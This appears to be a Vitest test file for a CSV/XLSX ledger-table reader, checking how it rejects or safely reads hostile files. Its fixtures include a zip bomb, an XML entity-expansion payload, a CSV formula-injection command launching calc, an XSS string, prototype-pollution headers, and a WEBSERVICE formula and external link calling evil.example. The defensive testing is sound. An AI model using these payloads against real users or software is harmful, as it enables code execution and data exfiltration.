import { gzipSync } from "node:zlib";
import { writeXlsx } from "hucre/xlsx";
import { describe, expect, test } from "vitest";
import { describedLedgerAccounts } from "#lib/shared/core-data/general-ledger-accounts.ts";
import { CheckedTable } from "./checked-table.ts";
import { readTable } from "./read-table.ts";
import { limits, type FileProblem } from "./table.ts";
import { sheetRow, workbookFile, zipFile } from "./testing/zip-file.ts";

type Hostile<Says> = [name: string, content: Buffer | string, says: Says];

/**
 * The expected reading of a table: a cell, a problem of its rows, its encoding, or columns that a person
 * must choose.
 */
type Understood = { cell: string } | { problem: string } | { encoding: string } | { columns: "unclear" };

const million = 1_000_000;
const head = "Konto;Bezeichnung\n";
const utf16 = (...units: (number | string)[]) =>
  Buffer.concat(
    units.map((unit) =>
      typeof unit === "string" ? Buffer.from(unit, "utf16le") : Buffer.from([unit & 0xff, unit >> 8]),
    ),
  );
const compound = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(2048),
]);
const header = sheetRow(1, "Konto", "Bezeichnung");
const formula = (value: string) =>
  `${header}<row r="2"><c r="A2"><f>WEBSERVICE("https://evil.example")</f>${value}</c><c r="B2" t="inlineStr"><is><t>Kasse</t></is></c></row>`;

const noTables: Hostile<FileProblem>[] = [
  ["empty.csv", "", "EMPTY_FILE"],
  ["mark alone.csv", "\ufeff", "EMPTY_FILE"],
  ["blank lines.csv", "\r\n \r\n\t\r\n", "EMPTY_FILE"],
  ["delimiters alone.csv", ";;;\n;;;\n", "EMPTY_FILE"],
  [
    "binary.csv",
    Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 251)),
    "BINARY_FILE",
  ],
  ["invoice.csv", "%PDF-1.7\n1 0 obj", "PDF_FILE"],
  ["scan.csv", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), "IMAGE_FILE"],
  ["photo.csv", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), "IMAGE_FILE"],
  ["old.xls", compound, "OLD_WORKBOOK"],
  ["packed.csv", gzipSync(head), "ARCHIVE_FILE"],
  ["packed 7z.csv", Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), "ARCHIVE_FILE"],
  ["packed zip.csv", zipFile([{ name: "a.csv", content: head }]), "ARCHIVE_FILE"],
  ["page.csv", "<!doctype html><table><tr><td>1000</table>", "WEB_PAGE"],
  ["page.xls", "\r\n<html xmlns:x='urn:schemas-microsoft-com:office:excel'>", "WEB_PAGE"],
  ["data.csv", '[{"code":"1000","name":"Kasse"}]', "JSON_FILE"],
  ["lines.csv", '{"code":"1000"}\n{"code":"1001"}\n', "JSON_FILE"],
  ["data xml.csv", '<?xml version="1.0"?><a/>', "XML_FILE"],
  ["letter.csv", "{\\rtf1 Konto;Name}", "BINARY_FILE"],
  ["prose.txt", "Dear customer\nhere is the file\n", "NO_COLUMNS"],
  ["header alone.csv", head, "NO_ROWS"],
  ["unclosed.csv", `${head}1000;"Kasse\n1001;Bank\n`, "QUOTE_NOT_CLOSED"],
  ["million columns.csv", `${";".repeat(million)}\n1000;Kasse\n`, "TOO_MANY_COLUMNS"],
  ["cells without end.csv", `${head}${";".repeat(5 * million)}`, "ROW_TOO_LONG"],
  ["too many rows.csv", "1;a\n".repeat(1_001_000), "TOO_MANY_ROWS"],
  ["too many blank rows.csv", head + "\n".repeat(1_001_000), "TOO_MANY_ROWS"],
];

const noWorkbooks = async (): Promise<Hostile<FileProblem>[]> => {
  const sheets = [
    {
      name: "K",
      rows: [
        ["Konto", "Name"],
        ["1000", "Kasse"],
      ],
    },
  ];
  const whole = Buffer.from(await writeXlsx({ sheets }));
  const locked = Buffer.from(await writeXlsx({ sheets, encryption: { password: "secret", spinCount: 1 } }));
  const zeros = Buffer.alloc(450 * 1024 * 1024);
  const bomb = (declared: number) =>
    zipFile([
      { name: "[Content_Types].xml", content: "<Types/>" },
      { name: "_rels/.rels", content: zeros, declared },
    ]);
  const corner = `${header}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`;
  return [
    ["encrypted.xlsx", locked, "ENCRYPTED_WORKBOOK"],
    ["cut off.xlsx", whole.subarray(0, whole.length / 2), "DAMAGED_WORKBOOK"],
    ["no sheets.xlsx", workbookFile(null), "NO_SHEETS"],
    ["no parts.xlsx", zipFile([{ name: "[Content_Types].xml", content: "<Types/>" }]), "DAMAGED_WORKBOOK"],
    ["corners.xlsx", workbookFile(corner), "NO_ROWS"],
    ["bomb.xlsx", bomb(zeros.length), "UNPACKS_TOO_LARGE"],
    ["bomb that lies.xlsx", bomb(1000), "DAMAGED_WORKBOOK"],
    ["bomb that hides.xlsx", bomb(0), "UNPACKS_TOO_LARGE"],
    [
      "sheet.ods",
      zipFile([
        { name: "mimetype", content: "x" },
        { name: "content.xml", content: "<x/>" },
      ]),
      "OPEN_DOCUMENT",
    ],
  ];
};

/** Tables that are read correctly, or read with their problems named. */
const tables: Hostile<Understood>[] = [
  ["nul.csv", `${head}1000;Kas\0se\n`, { problem: "name CONTROL 1" }],
  ["bidi.csv", `${head}10\u202e00;Kasse\n`, { problem: "accountCode CONTROL 1" }],
  [
    "invalid utf-8.csv",
    Buffer.from(`${head}1000;Geb\u00e4ude\n1001;\u00ff\n`, "latin1"),
    { cell: "Gebäude" },
  ],
  [
    "cut letter.csv",
    Buffer.concat([Buffer.from(`${head}1000;Geb`), Buffer.from([0xc3, 0x0a])]),
    { encoding: "windows-1252" },
  ],
  ["half pair.csv", utf16(0xfeff, "Konto\tName\n1000\ta", 0xd800, "b\n"), { problem: "name CONTROL 1" }],
  ["utf-16 without mark.csv", utf16("Konto;Name\r\n1000;Gebäude\r\n"), { cell: "Gebäude" }],
  ["formulas.csv", `${head}=1+1;"=cmd|' /C calc'!A0"\n`, { cell: "=cmd|' /C calc'!A0" }],
  ["script.csv", `${head}1000;<img src=x onerror=alert(1)>\n`, { cell: "<img src=x onerror=alert(1)>" }],
  ["prototype.csv", "__proto__;constructor\n1000;toString\n1001;valueOf\n", { cell: "toString" }],
  [
    "equal headers.csv",
    `${"Konto;".repeat(10_000)}Name\n${"1000;".repeat(10_000)}Kasse\n`,
    { columns: "unclear" },
  ],
  ["quotes.csv", `${head}1000;"""Kasse"" klein"\n"";""\n`, { cell: '"Kasse" klein' }],
  ["ragged.csv", `${head}1000;Kasse;;;;;\n1001\n`, { problem: "name EMPTY 1" }],
  ["carriage returns.csv", "Konto;Name\r1000;Kasse\r", { cell: "Kasse" }],
  ["mixed line ends.csv", 'Konto;Name\r\n1000;"Kas\nse"\r1001;Bank\n', { cell: "Bank" }],
  ["odd delimiter.csv", "sep=^\r\nKonto^Name\r\n1000^Kas;se\r\n", { cell: "Kas;se" }],
  ["long.csv", `${head}1000;${"x".repeat(30_000)}\n`, { problem: "name TOO_LONG 1" }],
  ["emoji.csv", `${head}1000;👩‍👩‍👧 Kasse\n`, { cell: "👩‍👩‍👧 Kasse" }],
  ["damaged codes.csv", `${head}1E+05;Kasse\n`, { problem: "accountCode EXPONENT 1" }],
  ["formulas.xlsx", workbookFile(formula("<v>4711</v>")), { cell: "4711" }],
  ["formulas without values.xlsx", workbookFile(formula("")), { problem: "accountCode EMPTY 1" }],
  [
    "external.xlsx",
    workbookFile(header + sheetRow(2, "1000", "Kasse"), [
      {
        name: "xl/externalLinks/externalLink1.xml",
        content: '<externalLink><externalBook r:id="rId1"/></externalLink>',
      },
      {
        name: "xl/externalLinks/_rels/externalLink1.xml.rels",
        content:
          '<Relationships><Relationship Id="rId1" Type="x" Target="https://evil.example/a.xlsx" TargetMode="External"/></Relationships>',
      },
    ]),
    { cell: "Kasse" },
  ],
  [
    "entities.xlsx",
    workbookFile(header + sheetRow(2, "1000", "Kasse &amp; Bank"), [
      {
        name: "xl/sharedStrings.xml",
        content:
          '<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>',
      },
    ]),
    { cell: "Kasse & Bank" },
  ],
];

const read = (content: Buffer | string) =>
  readTable(new Blob([new Uint8Array(Buffer.from(content))]), describedLedgerAccounts);

/** Returns the part of the reading that `says` describes. */
async function understood(content: Buffer | string, says: Understood): Promise<unknown> {
  const table = await read(content);
  if ("problem" in table) return table;
  if ("cell" in says) return { cell: table.rows.cells.flat().find((cell) => cell === says.cell) };
  if ("encoding" in says) return { encoding: table.source.kind === "text" && table.source.encoding };
  if ("columns" in says)
    return Object.values(table.guess).includes(null) ? { columns: "unclear" } : table.guess;
  const { groups } = new CheckedTable(table, describedLedgerAccounts, table.guess).summary();
  const problems = groups.map(({ field, kind, count }) => `${field} ${kind} ${count}`);
  return { problem: problems.find((problem) => problem === says.problem) ?? problems };
}

describe("what is no table says what it is", () => {
  test.each(noTables)("%s", async (_, content, problem) => {
    expect(await read(content)).toMatchObject({ problem });
  });

  test("a file larger than can be read", async () => {
    const file = new Blob([new Uint8Array(limits.fileBytes + 1)]);
    expect(await readTable(file, describedLedgerAccounts)).toEqual({ problem: "TOO_LARGE" });
  });
});

describe("hostile workbooks are not unpacked", async () => {
  test.each(await noWorkbooks())("%s", async (_, content, problem) => {
    expect(await read(content)).toMatchObject({ problem });
  });
});

describe("hostile tables are read as they are, or their problems are named", () => {
  test.each(tables)("%s", async (_, content, says) => {
    expect(await understood(content, says)).toEqual(says);
  });
});
